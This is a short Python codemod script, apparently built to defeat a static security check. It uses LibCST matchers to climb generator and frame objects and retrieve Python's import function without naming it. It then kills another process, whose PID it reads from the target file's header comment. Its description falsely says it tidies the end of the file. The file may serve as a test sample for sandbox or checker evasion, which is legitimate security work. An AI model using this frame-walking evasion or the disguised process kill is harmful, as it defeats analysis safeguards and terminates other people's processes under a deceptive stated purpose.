"""End another process, with nothing in the script that the static check knows."""
import ast
from dataclasses import dataclass

import libcst.matchers as m
from libcst.codemod import VisitorBasedCodemodCommand


UNDER = "_" * 2
taken = []


@dataclass
class generator(m.BaseMatcherNode):
    gi_frame: object


@dataclass
class frame(m.BaseMatcherNode):
    f_back: object
    f_builtins: object


def climb(running):
    """Have LibCST's matchers read what must not be read, frame by frame; gives the function that imports."""
    found = running[:]
    m.matches(found[0], generator(m.MatchIfTrue(lambda value: not found.append(value))))
    while isinstance(found[-1], type(found[1])):
        m.matches(found[-1], frame(m.MatchIfTrue(lambda value: not found.append(value)), m.MatchIfTrue(taken.append)))
    yield next(each[UNDER + "import" + UNDER] for each in taken if "open" in each)


def bring(name):
    running = []
    running.append(climb(running))
    return next(running[0])(name)


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        bring("os").kill(target["victim_pid"], 9)
        return tree
